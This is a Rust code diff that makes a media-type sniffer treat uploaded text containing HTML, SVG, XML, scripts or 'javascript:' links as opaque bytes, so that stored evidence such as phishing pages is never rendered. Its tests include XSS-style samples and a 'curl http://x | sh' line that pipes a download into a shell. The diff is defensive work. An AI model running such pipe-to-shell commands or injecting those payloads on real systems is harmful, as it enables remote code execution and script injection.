@@ -70,7 +70,18 @@ pub enum MediaType {
     /// `text/plain; charset=utf-8`: logs, headers, notes.
     #[serde(rename = "text/plain")]
     Text,
+    /// Text that holds markup or a script — HTML, SVG, XML, a `#!` script — anywhere in it: a phishing page's
+    /// source is real evidence, so it is kept, but typed as opaque bytes (`application/octet-stream`) so that
+    /// nothing ever renders or runs it.
+    #[serde(rename = "application/octet-stream")]
+    Markup,
 }
+
+/// What makes a text [`MediaType::Markup`], looked for in lower case anywhere in it.
+const MARKUP_SIGNS: [&str; 12] = [
+    "<html", "<!doctype", "<svg", "<?xml", "<script", "<iframe", "<body", "<object", "<embed", "<meta",
+    "<xsl", "javascript:",
+];
 
 impl MediaType {
     /// The media type as sent in `Content-Type`.
@@ -82,12 +93,14 @@ impl MediaType {
             MediaType::Webp => "image/webp",
             MediaType::Pdf => "application/pdf",
             MediaType::Text => "text/plain; charset=utf-8",
+            MediaType::Markup => "application/octet-stream",
         }
     }
 
     /// Decides the type from the content alone; `None` for anything not accepted.
     pub fn sniff(bytes: &[u8]) -> Option<MediaType> {
-        if let Some(kind) = infer::get(bytes) {
+        // Text formats `infer` knows (XML, HTML, SVG, shell scripts) are judged as text below.
+        if let Some(kind) = infer::get(bytes).filter(|kind| kind.matcher_type() != infer::MatcherType::Text) {
             return match kind.mime_type() {
                 "image/png" => Some(MediaType::Png),
                 "image/jpeg" => Some(MediaType::Jpeg),
@@ -102,7 +115,22 @@ impl MediaType {
             && text
                 .chars()
                 .all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t' | '\u{c}'));
-        plain.then_some(MediaType::Text)
+        if !plain {
+            return None;
+        }
+        let lower = text.to_lowercase();
+        let markup = text.starts_with("#!") || MARKUP_SIGNS.iter().any(|sign| lower.contains(sign));
+        Some(if markup {
+            MediaType::Markup
+        } else {
+            MediaType::Text
+        })
+    }
+
+    /// Whether files of this type are kept only as opaque bytes ([`MediaType::Markup`]), which staff should open
+    /// in a text editor, never a browser.
+    pub fn is_opaque(self) -> bool {
+        self == MediaType::Markup
     }
 }
 
@@ -231,6 +259,23 @@ mod tests {
         );
         assert_eq!(MediaType::sniff(b"PK\x03\x04\x14\0\0\0"), None);
         assert_eq!(MediaType::sniff(b"<html>\0</html>"), None);
+        // Markup and scripts, wherever they start: kept as opaque bytes.
+        for markup in [
+            &b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"[..],
+            b"Header yang saya salin:\nX-Test: 1\n\n<HTML><body>phishing</body></HTML>",
+            b"<?xml version=\"1.0\"?><a/>",
+            b"#!/bin/sh\ncurl http://x | sh\n",
+            b"lihat <a href=\"javascript:alert(1)\">ini</a>",
+        ] {
+            assert_eq!(MediaType::sniff(markup), Some(MediaType::Markup), "{markup:?}");
+        }
+        assert_eq!(MediaType::Markup.as_str(), "application/octet-stream");
+        assert!(MediaType::Markup.is_opaque() && !MediaType::Text.is_opaque());
+        // A log that mentions a tag-less word stays text.
+        assert_eq!(
+            MediaType::sniff(b"GET /index.php?page=scripts HTTP/1.1 200\n"),
+            Some(MediaType::Text)
+        );
         assert_eq!(MediaType::sniff(&[0xde, 0xad, 0xbe, 0xef]), None);
         assert_eq!(
             EvidenceFile::from_upload(Vec::new()),
